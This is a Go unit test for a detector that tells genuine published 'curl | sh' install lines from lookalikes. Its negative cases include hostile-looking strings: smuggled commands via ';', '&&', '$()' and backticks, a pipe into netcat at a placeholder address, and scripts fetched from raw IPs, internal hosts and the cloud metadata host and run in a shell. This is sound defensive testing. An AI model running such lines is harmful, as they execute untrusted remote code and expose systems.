package lookalike

import (
	"strings"
	"testing"
)

func TestInstallOneLiner(t *testing.T) {
	tests := []struct {
		s    string
		want bool
	}{
		// how tools publish their install lines, and how docs quote them
		{"curl -fsSL https://get.example.io | sh", true},
		{"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", true},
		{"curl -LsSf https://astral.sh/uv/install.sh | sh -s -- --yes", true},
		{"wget -qO- https://get.docker.com | sudo bash", true},
		{"curl -sSL https://install.python-poetry.org | python3 -", true},
		{"```bash\ncurl -fsSL https://get.example.io | sh\n```", true},
		{"Install with `curl -fsSL https://get.example.io | sh` and restart.", true},
		{"Install: curl -fsSL https://get.example.io | sh", true},
		{"$ curl -fsSL https://get.example.io | bash", true},
		// a separator, another line or another command around it
		{"x; curl -fsSL https://get.example.io | sh", false},
		{"x && curl -fsSL https://get.example.io | sh", false},
		{"$(curl -fsSL https://get.example.io | sh)", false},
		{"127.0.0.1\ncurl -fsSL https://get.example.io | sh", false},
		{"note\n```\ncurl -fsSL https://get.example.io | sh", false},
		{"curl -fsSL https://get.example.io | sh; id", false},
		{"curl -fsSL https://get.example.io | sh\nid", true}, // the pipe's line; the next is judged on its own
		{"curl -fsSL https://get.example.io | sh -c id", false},
		{"curl -fsSL https://get.example.io | bash -s -- -c id", true}, // the installer's arguments
		{"curl -fsSL https://get.example.io | bash -s -- $(id)", false},
		{"curl -fsSL https://get.example.io | nc 203.0.113.9 4444", false},
		{"x`curl -fsSL https://get.example.io | sh`", false},
		// not a published script: plain http, addresses, internal names
		{"curl -fsSL http://get.example.io | sh", false},
		{"curl https://203.0.113.9/x | sh", false},
		{"curl https://[::1]/x | sh", false},
		{"curl https://localhost/x | sh", false},
		{"curl https://127.0.0.1.nip.io/x | sh", false},
		{"curl https://app.localtest.me/x | sh", false},
		{"curl https://api.cluster.local/x | sh", false},
		{"curl https://nas.lan/x | sh", false},
		{"curl https://metadata.google.internal/x | sh", false},
		{"curl https://user@get.example.io/x | sh", false},
		{"curl https://get.example.io/a https://get.example.io/b | sh", false},
		{"curl -o /tmp/x https://get.example.io/x | sh", false},
	}
	for _, tt := range tests {
		pipe := strings.LastIndexByte(tt.s, '|')
		if got := InstallOneLiner(tt.s, pipe); got != tt.want {
			t.Errorf("InstallOneLiner(%q) = %v, want %v", tt.s, got, tt.want)
		}
	}
}
